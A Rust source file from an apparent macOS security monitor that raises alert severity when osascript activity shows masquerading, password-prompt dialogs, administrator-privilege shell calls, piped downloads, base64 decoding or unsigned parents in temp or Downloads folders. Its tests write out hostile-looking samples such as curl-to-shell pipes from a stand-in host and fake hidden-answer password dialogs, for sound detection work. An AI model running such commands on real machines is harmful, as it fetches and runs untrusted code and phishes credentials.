//! What raises an alert above its rule: evidence that its events and scripts show, in one table. Nothing lowers it.

use std::borrow::Cow;
use std::sync::{Arc, LazyLock};

use regex::{Regex, RegexBuilder};

use super::script::{download_of, script_of};
use super::{masquerade, shell};
use crate::detect::rule::Severity;
use crate::detect::{Match, Rule};
use crate::event::{Event, Execution, Scalar, Script, field};
use crate::script;

/// A kind of evidence.
struct Evidence {
    /// What `osawatch.risk.reasons` calls it.
    name: &'static str,
    /// An alert that shows it has at least this severity, and its risk score is at least this.
    severity: Severity,
    risk_score: f64,
    is_shown: fn(&Shown<'_>) -> bool,
}

/// The table, as docs/alerts.md has it.
const TABLE: [Evidence; 6] = [
    Evidence { name: "masquerade", severity: Severity::High, risk_score: 80.0, is_shown: is_masquerade },
    Evidence { name: "hidden answer", severity: Severity::High, risk_score: 80.0, is_shown: asks_for_password },
    Evidence { name: "administrator privileges", severity: Severity::High, risk_score: 73.0, is_shown: asks_for_admin },
    Evidence { name: "download piped", severity: Severity::High, risk_score: 80.0, is_shown: pipes_download },
    Evidence { name: "base64", severity: Severity::High, risk_score: 73.0, is_shown: holds_base64 },
    Evidence { name: "unsigned parent", severity: Severity::High, risk_score: 80.0, is_shown: has_unsigned_parent },
];
/// What two kinds of evidence or more come to.
const SEVERAL: (Severity, f64) = (Severity::Critical, 99.0);

/// The severity and the risk score of an alert, and what raises them.
pub(super) struct Risk {
    pub severity: Severity,
    pub risk_score: f64,
    pub reasons: Vec<&'static str>,
}

/// What an alert can show.
struct Shown<'f> {
    events: &'f [Arc<Event>],
    scripts: Vec<Cow<'f, Script>>,
    /// Scripts, what is packed in them, and command lines.
    texts: Vec<Cow<'f, str>>,
}

impl Risk {
    /// Of a detection.
    pub(super) fn of(rule: &Rule, found: &Match) -> Risk {
        let shown = Shown::of(found);
        let mut risk = Risk { severity: rule.severity, risk_score: rule.risk_score, reasons: Vec::new() };
        for evidence in TABLE.iter().filter(|evidence| (evidence.is_shown)(&shown)) {
            risk.raise((evidence.severity, evidence.risk_score));
            risk.reasons.push(evidence.name);
        }
        if risk.reasons.len() > 1 {
            risk.raise(SEVERAL);
        }
        risk
    }

    fn raise(&mut self, (severity, risk_score): (Severity, f64)) {
        self.severity = self.severity.max(severity);
        self.risk_score = self.risk_score.max(risk_score);
    }
}

impl<'f> Shown<'f> {
    fn of(found: &'f Match) -> Shown<'f> {
        let own = found.events.iter().filter_map(|event| event.script.as_deref());
        let scripts: Vec<Cow<'f, Script>> =
            own.chain(script_of(found).map(|(_, script)| script)).map(Script::current).collect();
        let mut texts: Vec<Cow<'f, str>> = Vec::new();
        for script in &scripts {
            texts.extend(script.text.iter().chain(&script.decoded).cloned().map(Cow::Owned));
        }
        for event in &found.events {
            texts.extend(event.str(field::PROCESS_COMMAND_LINE).map(Cow::Borrowed));
            let args = event.stated(field::PROCESS_ARGS).map(|arg| arg.text().into_owned());
            texts.push(Cow::Owned(args.collect::<Vec<_>>().join(" ")));
            let around = executions(event).filter_map(Execution::command_line);
            texts.extend(around.map(Cow::Borrowed));
        }
        // Arguments and command line say the same, and so does what the stream knows of the process. Each is read in several
        // ways, at every level of quoting.
        texts.sort_unstable();
        texts.dedup();
        Shown { events: &found.events, scripts, texts }
    }

    /// Whether a script shows it, or a command line by which a shell runs one.
    fn asks(&self, name: &str) -> bool {
        self.scripts.iter().any(|script| script.indicators.contains(&name))
            || self.texts.iter().any(|text| text.contains("osascript") && script::shows(name, text))
    }

    fn matches(&self, pattern: &Option<Regex>) -> bool {
        pattern.as_ref().is_some_and(|pattern| self.texts.iter().any(|text| pattern.is_match(text)))
    }
}

/// The process of an event, its parent and its ancestors.
fn executions(event: &Event) -> impl Iterator<Item = &Execution> {
    let context = event.context.as_deref();
    let own = context.and_then(|context| context.process.as_deref());
    own.into_iter().chain(parents(event))
}

fn parents(event: &Event) -> impl Iterator<Item = &Execution> {
    let context = event.context.as_deref();
    let parent = context.and_then(|context| context.parent.as_deref());
    let ancestors = context.and_then(|context| context.ancestors.as_ref());
    parent.into_iter().chain(ancestors.into_iter().flat_map(|list| list.iter()).map(|execution| &**execution))
}

fn is_masquerade(shown: &Shown<'_>) -> bool {
    shown.events.iter().any(|event| masquerade::of(event).is_some())
}

fn asks_for_password(shown: &Shown<'_>) -> bool {
    shown.asks("hidden answer")
}

fn asks_for_admin(shown: &Shown<'_>) -> bool {
    shown.asks("with administrator privileges")
}

/// A download that a shell or an interpreter runs: in a text, or as the two ends of a pipe that a rule found.
fn pipes_download(shown: &Shown<'_>) -> bool {
    download_of(shown.events).is_some() || shown.texts.iter().any(|text| shell::runs_download(text))
}

/// Commands that decode base64: `base64 -D -i f`, `openssl base64 -d`, `openssl enc -d -a`.
const SHELL_DECODES: &str = r"\bbase64\b(?:\s+[^\s|;&]+){0,4}?\s+(?:-[a-z]*d[a-z]*\b|--decode\b)|\bopenssl\s+enc\b(?:\s+[^\s|;&]+){0,8}?\s+-(?:d\s(?:[^|;&\n]{0,80}\s)?-(?:a|base64)|(?:a|base64)\s(?:[^|;&\n]{0,80}\s)?-d)\b";
/// Functions of interpreters that do.
const CODE_DECODES: &str = r"\bb64decode\b|\batob\s*\(|\bbase64_decode\b|\bdecode_base64\b|\bBase64\.(?:strict_|urlsafe_)?decode64\b|WithBase64Encoded(?:String|Data)";

/// A long run of base64, or a command that decodes it.
fn holds_base64(shown: &Shown<'_>) -> bool {
    static DECODES: LazyLock<Option<Regex>> = LazyLock::new(|| pattern(&[SHELL_DECODES, CODE_DECODES].join("|")));
    shown.texts.iter().any(|text| script::has_base64_run(text.as_bytes())) || shown.matches(&DECODES)
}

/// A program without a signature that a browser or a script left where anybody may write.
fn has_unsigned_parent(shown: &Shown<'_>) -> bool {
    let stated = |event: &Event| {
        let is_unsigned = event.any(field::PARENT_SIGNATURE_EXISTS, |value| value == Scalar::Bool(false));
        is_unsigned && event.str(field::PARENT_EXECUTABLE).is_some_and(is_left_there)
    };
    let known = |execution: &Execution| {
        execution.is_signed() == Some(false) && execution.executable().is_some_and(is_left_there)
    };
    shown.events.iter().any(|event| stated(event) || parents(event).any(known))
}

fn is_left_there(path: &str) -> bool {
    let temporary = ["/tmp/", "/private/tmp/", "/var/tmp/", "/private/var/tmp/"];
    let in_downloads = path.strip_prefix("/Users/").and_then(|rest| rest.split('/').nth(1)) == Some("Downloads");
    in_downloads || temporary.iter().any(|folder| path.starts_with(folder))
}

fn pattern(text: &str) -> Option<Regex> {
    RegexBuilder::new(text).case_insensitive(true).build().ok()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::RuleSet;
    use crate::event::{Categories, Context, Timestamp};

    fn osascript(args: &[&str]) -> Event {
        let mut event = Event::new(Timestamp::default(), Categories::PROCESS);
        event.push_str(field::EVENT_TYPE, "start");
        event.push_str(field::PROCESS_NAME, "osascript");
        args.iter().for_each(|arg| event.push_str(field::PROCESS_ARGS, arg));
        event.script = script::of_arguments(&event, script::Capture::Full).map(Arc::new);
        event
    }

    fn child_of(executable: &str, is_signed: bool) -> Event {
        let mut parent = Event::new(Timestamp::default(), Categories::PROCESS);
        parent.push_str(field::PROCESS_EXECUTABLE, executable);
        parent.push_bool(field::PROCESS_SIGNATURE_EXISTS, is_signed);
        let mut event = osascript(&["osascript"]);
        let context = Context { parent: Some(Arc::new(Execution::of(&parent))), ..Context::default() };
        event.context = Some(Arc::new(context));
        event
    }

    fn risk(events: Vec<Event>) -> (u64, f64, Vec<&'static str>) {
        let set = RuleSet::built_in();
        let events = events.into_iter().map(Arc::new).collect();
        let risk = Risk::of(&set.rules[0], &Match { events, join: Vec::new(), has_several_keys: false });
        (risk.severity.number(), risk.risk_score, risk.reasons)
    }

    #[test]
    fn each_kind_of_evidence_raises_an_alert_and_what_is_like_it_does_not() {
        let script = |text: &str| vec![osascript(&["osascript", "-e", text])];
        let mut renamed = osascript(&["osascript"]);
        renamed.push_str(field::PROCESS_SIGNING_ID, "a.out");
        let start = |name: &str, parent: &str, category: Categories| {
            let mut event = Event::new(Timestamp::default(), category);
            event.push_str(field::EVENT_TYPE, "start");
            event.push_str(field::PROCESS_NAME, name);
            event.push_str(field::PARENT_ENTITY_ID, parent);
            event
        };
        let curl = || start("curl", "z", Categories::PROCESS);
        let reader = |parent: &str| {
            let mut event = osascript(&["osascript", "-"]);
            event.push_str(field::PARENT_ENTITY_ID, parent);
            event
        };
        let shell = |text: &str| {
            let mut event = start("sh", "z", Categories::PROCESS);
            ["sh", "-c", text].iter().for_each(|arg| event.push_str(field::PROCESS_ARGS, arg));
            vec![event]
        };
        for (events, wanted) in [
            (script("beep"), None),
            (vec![renamed], Some("masquerade")),
            (script("display dialog \"P\" default answer \"\" with hidden answer"), Some("hidden answer")),
            (script("display dialog \"P\" default answer \"\""), None),
            (script("do shell script \"id\" with administrator privileges"), Some("administrator privileges")),
            (script("do shell script \"curl -s https://a.example/x | sh\""), Some("download piped")),
            (script("do shell script \"curl -s https://a.example/x | sudo -n /bin/bash -s\""), Some("download piped")),
            (
                script("do shell script \"/bin/zsh -c \\\"$(curl -fsSL https://a.example/x)\\\"\""),
                Some("download piped"),
            ),
            (script("do shell script \"curl -s https://a.example/x || sh fallback\""), None),
            (script("do shell script \"curl -s https://a.example/x | grep sh\""), None),
            (script("do shell script \"curl -s https://a.example/x | python3 -m json.tool\""), None),
            (vec![curl(), reader("z")], Some("download piped")),
            (vec![reader("z"), curl()], Some("download piped")),
            (vec![curl(), reader("y")], None),
            (vec![reader("z"), start("curl", "z", Categories::NETWORK)], None),
            (
                shell("osascript -e 'display dialog \"P\" default answer \"\" with hidden answer'"),
                Some("hidden answer"),
            ),
            (shell("osascript -e 'display dialog \"P\" default answer \"\" without hidden answer'"), None),
            (shell("grep 'with hidden answer' notes.txt"), None),
            (
                shell("osascript -e 'do shell script \"id\" with administrator privileges'"),
                Some("administrator privileges"),
            ),
            (script("display dialog \"P\" default answer \"\" hidden answer false"), None),
            (script("do shell script \"id\" without administrator privileges"), None),
            (script(&format!("do shell script \"curl -H 'Authorization: Bearer {}' u\"", "QUJD".repeat(50))), None),
            (script(&format!("do shell script \"echo {}\"", "QUJD".repeat(50))), Some("base64")),
            (script("do shell script \"base64 -D -i /tmp/x\""), Some("base64")),
            (script("do shell script \"base64 -i /tmp/x -D -o y\""), Some("base64")),
            (script("do shell script \"openssl base64 -d -in /tmp/x\""), Some("base64")),
            (script("do shell script \"openssl enc -d -A -a -in /tmp/x\""), Some("base64")),
            (script("do shell script \"openssl enc -base64 -d < /tmp/x\""), Some("base64")),
            (script("$.NSData.alloc.initWithBase64EncodedStringOptions(s, 0)"), Some("base64")),
            (script("do shell script \"python3 -c 'import base64; base64.b64decode(x)'\""), Some("base64")),
            (script("-- base64 is a code"), None),
            (script("do shell script \"base64 -i /tmp/x -o y; ls -d /tmp\""), None),
            (script("do shell script \"openssl enc -base64 -in /tmp/x | sort -d\""), None),
            (script("do shell script \"openssl enc -d -aes-256-cbc -in /tmp/x\""), None),
            (vec![child_of("/private/tmp/x", false)], Some("unsigned parent")),
            (vec![child_of("/Users/ada/Downloads/Setup.app/Contents/MacOS/Setup", false)], Some("unsigned parent")),
            (vec![child_of("/private/tmp/x", true)], None),
            (vec![child_of("/usr/local/bin/x", false)], None),
        ] {
            let text = format!("{wanted:?}: {:?}", events[0].script.as_ref().map(|script| script.text.clone()));
            let row = wanted.map(|name| TABLE.iter().find(|evidence| evidence.name == name).unwrap());
            let wanted = row.map_or((47, 47.0, vec![]), |row| (row.severity.number(), row.risk_score, vec![row.name]));
            assert_eq!(risk(events), wanted, "{text}");
        }
    }

    #[test]
    fn two_kinds_of_evidence_are_critical_and_nothing_lowers_a_rule() {
        let text = "do shell script \"curl https://a.example/x | sh\" with administrator privileges";
        let events = vec![Arc::new(osascript(&["osascript", "-e", text]))];
        let found = Match { events, join: Vec::new(), has_several_keys: false };
        let mut rule = RuleSet::built_in().rules[0].clone();
        let risk = Risk::of(&rule, &found);
        assert_eq!((risk.severity, risk.risk_score), SEVERAL);
        assert_eq!(risk.reasons, ["administrator privileges", "download piped"]);
        (rule.severity, rule.risk_score) = (Severity::Critical, 100.0);
        let risk = Risk::of(&rule, &found);
        assert_eq!((risk.severity, risk.risk_score), (Severity::Critical, 100.0));
    }

    #[test]
    fn the_documentation_has_the_whole_table() {
        let text = include_str!("../../docs/alerts.md");
        let documented: Vec<Vec<&str>> = text
            .lines()
            .skip_while(|line| *line != "| evidence | severity | risk score | shown by |")
            .skip(2)
            .take_while(|line| line.starts_with('|'))
            .map(|line| line.split('|').skip(1).take(3).map(str::trim).collect())
            .collect();
        let row =
            |name: &str, severity: Severity, score: f64| vec![name.to_owned(), severity.to_string(), score.to_string()];
        let mut table: Vec<Vec<String>> =
            TABLE.iter().map(|row_of| row(&format!("`{}`", row_of.name), row_of.severity, row_of.risk_score)).collect();
        table.push(row("two of them or more", SEVERAL.0, SEVERAL.1));
        assert_eq!(documented, table);
    }
}
